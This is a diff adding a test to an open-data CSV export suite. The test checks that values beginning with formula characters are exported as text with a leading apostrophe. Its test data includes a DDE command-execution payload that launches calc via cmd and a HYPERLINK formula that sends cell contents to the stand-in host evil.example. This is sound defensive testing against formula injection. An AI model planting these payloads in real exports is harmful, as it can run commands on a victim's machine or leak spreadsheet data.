@@ -1,6 +1,7 @@
 import { newTenant } from '../helpers/app';
 import { HttpTestApp, startHttpApp } from '../helpers/http';
-import { seedNetworks } from '../helpers/factories';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { addMember, createNetwork, createPartner, referenceIds, seedNetworks } from '../helpers/factories';
 
 let t: HttpTestApp;
 beforeAll(async () => {
@@ -50,4 +51,23 @@ test('open data needs a signed-in caller and a known dataset', async () => {
   expect((await download('/opendata/progetti.csv', 'not-a-token')).status).toBe(401);
   const analyst = await t.signUp('ANALYST', null);
   expect((await download('/opendata/segreti.csv', analyst.token)).status).toBe(404);
+});
+
+test('a cell a spreadsheet would run as a formula comes out as text, with a leading apostrophe', async () => {
+  const tenant = await newTenant(t);
+  const ref = await referenceIds(t);
+  const network = await createNetwork(t, tenant.editor, ref, { title: '@SUM(1+1)*cmd|" /C calc"!A0' });
+  const names = ['=HYPERLINK("http://evil.example/?"&A1;"click")', '+39 SUM(A1:A9)', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1', 'Cooperativa = Lavoro'];
+  for (const [i, legalName] of names.entries()) {
+    const partner = await createPartner(t, tenant.editor, ref, 'LABOUR_OPERATOR', { legalName });
+    await addMember(t, tenant.editor, network.id, partner.id, i === 0 ? 'LEAD' : 'PARTNER');
+  }
+  const analyst = await t.signUp('ANALYST', tenant.id);
+  const read = async (dataset: string) =>
+    (parseCsv((await download(`/opendata/${dataset}.csv`, analyst.token)).body, { bom: true, delimiter: ';', relax_quotes: false }) as string[][]).slice(1);
+
+  const subjects = (await read('soggetti')).filter((r) => r[0].startsWith(`${tenant.code}-`)).map((r) => r[1]);
+  expect(subjects.sort()).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).sort());
+  const [project] = (await read('progetti')).filter((r) => r[0].startsWith(`${tenant.code}-`));
+  expect([project[1], project[9]]).toEqual([`'@SUM(1+1)*cmd|" /C calc"!A0`, `'${names[0]}`]);
 });
